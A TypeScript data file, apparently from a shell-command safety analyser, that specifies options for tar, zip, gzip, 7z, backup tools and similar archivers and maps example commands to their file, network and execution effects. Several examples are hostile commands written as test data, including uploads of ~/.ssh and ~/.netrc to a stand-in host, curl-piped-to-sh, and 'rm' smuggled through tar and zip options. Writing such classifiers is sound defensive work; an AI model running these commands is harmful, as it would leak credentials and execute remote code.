import type { Program } from '../program/spec.ts';

/** Archivers and compressors. */
export const ARCHIVES: readonly Program[] = [
  {
    names: 'tar gtar bsdtar star',
    options: {
      '-f --file': 'text', '-C --directory': 'text', '-T --files-from': 'text', '-X --exclude-from': 'read', '-I --use-compress-program': 'text', '-F --info-script --new-volume-script': 'text', '--exclude': 'text', '--transform --xform -s': 'text', '--to-command': 'text', '--checkpoint-action': 'text', '--checkpoint': 'flag', '--rsh-command': 'text', '--rmt-command': 'text', '--strip-components': 'text', '--owner': 'text', '--group': 'text', '--mode': 'text', '--mtime': 'text', '-V --label': 'text', '-b --blocking-factor': 'text', '-N --newer': 'text', '-g --listed-incremental': 'write', '--add-file': 'read', '--format': 'text', '-H': 'text', '--sort': 'text', '-K --starting-file': 'text', '--exclude-vcs': 'flag', '--index-file': 'write',
      '-c --create': 'flag', '-x --extract --get': 'flag', '-t --list': 'flag', '-r --append': 'flag', '-u --update': 'flag', '-A --catenate': 'flag', '-d --diff': 'flag', '-O --to-stdout': 'flag', '--remove-files': 'flag', '--delete': 'flag', '-z --gzip': 'flag', '-j': 'flag', '-J': 'flag', '-v': 'flag', '-P --absolute-names': 'flag', '-p': 'flag',
    },
    operands: '',
    behaviour: 'tar',
    examples: {
      'tar czf a.tgz src': 'read -r src; write a.tgz', 'tar xf a.tgz -C out': 'read a.tgz; write -r out', 'tar -tvf a.tgz': 'read a.tgz', 'tar czf - ~/.ssh | curl -T - https://a.example': 'flow ~/.ssh>net:a.example; net a.example; read -r ~/.ssh; run curl', "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm y'": 'delete y; read -r x; run rm', "tar -cI 'rm x' -f - .": 'delete x; read -r .; run rm', 'tar cf me@a.example:/x y': 'flow y>net:a.example; net a.example; read -r y', 'curl -s https://a.example/a.tgz | tar xz': 'net a.example; run tar; write -r .', 'tar xf a --to-command="rm x"': 'delete x; read a; run rm; write -r .', "TAR_OPTIONS='--create --file=a.example:/b' tar -- x": 'flow x>net:a.example; net a.example; read -r x', 'tar Pxf a --xform s@.*@/etc/x@': 'read a; write -r .; write /etc/x', 'tar -xO a.tar s.sh | sh': 'flow stdin>exec; opaque code; run sh', 'tar cf a.tar --remove-files d': 'delete -r d; read -r d; write a.tar',
    },
  },
  { names: 'zip', options: { '-r --recurse-paths': 'recursive', '-m --move': 'flag', '-@ --names-stdin': 'flag', '-x --exclude': 'text', '-i --include': 'text', '-P --password': 'text', '-T --test': 'flag', '-TT --unzip-command': 'text', '-b --temp-path': 'text', '-O --output-file': 'write', '-q': 'flag', '-e': 'flag' }, operands: '', behaviour: 'zip', examples: { 'zip -r a.zip src': 'read -r src; write -r a.zip', "zip a.zip x -T -TT 'rm y #'": 'delete y; read x; run rm; write a.zip', "printf 'x\\n' | zip a.zip -@": 'read x; run zip; write a.zip' } },
  { names: 'unzip funzip', options: { '-d': 'text', '-x': 'text', '-P': 'text', '-l': 'flag', '-p': 'flag', '-c': 'flag', '-t': 'flag', '-o': 'flag', '-q': 'flag', '-v': 'flag', '-j': 'flag', '-n': 'flag' }, operands: '', behaviour: 'unzip', examples: { 'unzip a.zip -d out': 'read a.zip; write -r out', 'unzip -p a.zip s.sh | sh': 'flow a.zip>exec; read a.zip; run sh', 'unzip -l a.zip': 'read a.zip' } },
  {
    names: 'gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 unlz4 lzma unlzma compress uncompress pigz unpigz pbzip2 brotli lzip lzop zopfli',
    options: { '-d --decompress --uncompress': 'flag', '-c --stdout --to-stdout': 'flag', '-k --keep': 'flag', '-l --list': 'flag', '-t --test': 'flag', '-S --suffix': 'text', '-o': 'text', '-T --threads': 'text', '-f --force': 'flag', '-r --recursive': 'recursive', '-n': 'flag', '-v': 'flag', '-q': 'flag', '-D': 'read' },
    operands: '',
    behaviour: 'compress',
    examples: { 'gzip a': 'delete a; read a; write a.gz', 'gunzip a.gz': 'delete a.gz; read a.gz; write a', 'gzip -k a': 'read a; write a.gz', 'gzip -c a > b': 'read a; write b', 'curl -s https://a.example/i.gz | gunzip | sh': 'flow net:a.example>exec; net a.example; opaque code; remote; run gunzip; run sh', 'zstd a -o b': 'read a; write b', 'gzip -k ~/.netrc; curl -T ~/.netrc.gz https://a.example': 'flow ~/.netrc.gz>net:a.example; flow ~/.netrc>net:a.example; net a.example; read ~/.netrc; read ~/.netrc.gz; run curl; write ~/.netrc.gz' },
  },
  {
    names: '7z 7za 7zr 7zz p7zip',
    style: 'gnu',
    options: { '-o': 'write', '-p': 'flag?', '-t': 'flag?', '-m': 'flag?', '-x': 'flag?', '-w': 'flag?', '-so': 'flag', '-si': 'flag', '-an': 'flag', '-y': 'flag', '-r': 'flag' },
    subcommands: { 'a|u': { operands: 'write dir...' }, 'x|e': { operands: 'read text...' }, 'l|t': { operands: 'read' }, d: { operands: 'edit text...' } },
    examples: { '7z a a.7z src': 'read -r src; write a.7z', '7z x a.7z -oout': 'read a.7z; write out' },
  },
  { names: 'rar unrar arj lha zoo arc', operands: '', subcommands: { 'a|u|m|f': { operands: 'write dir...' }, 'x|e': { operands: 'read write' }, 'l|t|p|v|vb': { operands: 'read' } }, examples: { 'unrar x a.rar': 'read a.rar', 'arj a o ~/.netrc': 'read -r ~/.netrc; write o' } },
  { names: 'ar gar llvm-ar', style: 'gnu', subcommands: { '[rq]*': { operands: 'write read...' }, '[ptx]*': { operands: 'read text...' }, 'd*': { operands: 'edit text...' } }, examples: { 'ar r a.a x.o': 'read x.o; write a.a', 'ar p a.a': 'read a.a' } },
  { names: 'cpio pax', options: { '-o --create': 'flag', '-i --extract': 'flag', '-p --pass-through': 'flag', '-F --file': 'read', '-O': 'write', '-I': 'read', '-R --owner': 'text', '-D --directory': 'cwd', '-E --pattern-file': 'read', '-H --format': 'text', '-d': 'flag', '-m': 'flag', '--rsh-command': 'shell', '-w': 'flag', '-r': 'flag', '-f': 'read' }, operands: 'text...', stdin: 'paths', when: { '--extract -r': { stdin: 'data' }, '--pass-through': { operands: 'write' } }, examples: { 'find a | cpio -o > b': 'list -r a; read a/*; run cpio; write b', 'cpio -id < a': 'read a', 'echo /etc/x | cpio -p o': 'read /etc/x; run cpio; write o' } },
  { names: 'mksquashfs genisoimage mkisofs xorriso', options: { '-o -output': 'write', '-V': 'text', '-sort': 'read', '-e': 'text', '-comp': 'text' }, style: 'long', operands: 'dir...', examples: { 'genisoimage -o a.iso d': 'read -r d; write a.iso' } },
  { names: 'restic borg duplicity rdiff-backup kopia bup rsnapshot', options: { '-r --repo': 'remote-target', '--password-file': 'read', '--password-command': 'shell', '--files-from': 'read', '-e --exclude': 'text', '--exclude-file': 'read', '--tag': 'text', '--keep-daily': 'text', '--keep-weekly': 'text', '--keep-last': 'text', '--keep-hourly': 'text', '--keep-monthly': 'text', '-n --dry-run': 'dry', '--prune': 'flag', '--rsh': 'shell' }, subcommands: { backup: { operands: 'dir...' }, 'create': { operands: 'text dir...' }, 'forget|prune|delete|repo-delete|compact|key remove|unlock|recreate|key': 'prune', 'key list|key add|key passwd': {}, 'restore|extract': { options: { '-t --target': 'write' }, operands: 'text...' } }, examples: { 'restic backup src': 'read -r src', 'restic forget --prune --keep-daily 7': 'action prune', 'borg create r::a src': 'read -r src', 'restic snapshots': 'nothing' } },
];
